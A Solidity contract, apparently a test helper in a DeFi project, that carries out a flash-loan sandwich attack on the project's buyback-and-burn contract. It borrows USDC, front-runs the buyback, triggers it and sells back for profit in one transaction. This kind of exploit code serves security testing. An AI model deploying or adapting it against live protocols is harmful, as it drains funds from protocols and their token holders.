// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IUniswapV3Pool} from "@uniswap/v3-core/contracts/interfaces/IUniswapV3Pool.sol";
import {IBuybackBurner} from "../../contracts/interfaces/revenue/IBuybackBurner.sol";

/// @notice An attacker in one transaction: takes USDC out of a pool by a flash loan, buys, has the buyback buy, sells, pays back.
contract Sandwicher {
    uint160 private constant MIN_ROOT = 4_295_128_740;
    uint160 private constant MAX_ROOT = 1_461_446_703_485_210_103_287_273_052_203_988_822_378_723_970_341;

    IERC20 private immutable USDC;
    IBuybackBurner private immutable BURNER;

    IUniswapV3Pool private _target;
    uint256 private _frontUsdc;

    constructor(IERC20 usdc, IBuybackBurner burner) {
        (USDC, BURNER) = (usdc, burner);
    }

    /* STEPS */

    /// @notice All of it with money of `lender`, another pool, in one transaction.
    function attackWithFlashLoan(IUniswapV3Pool lender, IUniswapV3Pool target, uint256 usdc) external {
        (_target, _frontUsdc) = (target, usdc);
        bool usdcFirst = lender.token0() == address(USDC);
        lender.flash(address(this), usdcFirst ? usdc : 0, usdcFirst ? 0 : usdc, "");
    }

    function uniswapV3FlashCallback(uint256 fee0, uint256 fee1, bytes calldata) external {
        attack(_target, _frontUsdc);
        USDC.transfer(msg.sender, _frontUsdc + fee0 + fee1);
    }

    /// @notice All of it with own money, in one transaction.
    function attack(IUniswapV3Pool target, uint256 usdc) public {
        uint256 cpt = front(target, usdc);
        buyAndSell(target, cpt);
    }

    function front(IUniswapV3Pool target, uint256 usdc) public returns (uint256 cpt) {
        return _swap(target, true, usdc);
    }

    /// @notice The buyback's swap and the way out, in one transaction.
    function buyAndSell(IUniswapV3Pool target, uint256 cpt) public {
        address[] memory route = new address[](1);
        route[0] = address(target);
        BURNER.buy(type(uint256).max, 0, route);
        _swap(target, false, cpt);
    }

    /* THE POOL */

    /// @return out What came, in units.
    function _swap(IUniswapV3Pool pool, bool sellsUsdc, uint256 amount) private returns (uint256 out) {
        bool zeroForOne = (pool.token0() == address(USDC)) == sellsUsdc;
        uint160 limit = zeroForOne ? MIN_ROOT : MAX_ROOT;
        (int256 delta0, int256 delta1) = pool.swap(address(this), zeroForOne, int256(amount), limit, "");
        return uint256(-(zeroForOne ? delta1 : delta0));
    }

    function uniswapV3SwapCallback(int256 delta0, int256 delta1, bytes calldata) external {
        IUniswapV3Pool pool = IUniswapV3Pool(msg.sender);
        if (delta0 > 0) IERC20(pool.token0()).transfer(msg.sender, uint256(delta0));
        else IERC20(pool.token1()).transfer(msg.sender, uint256(delta1));
    }
}
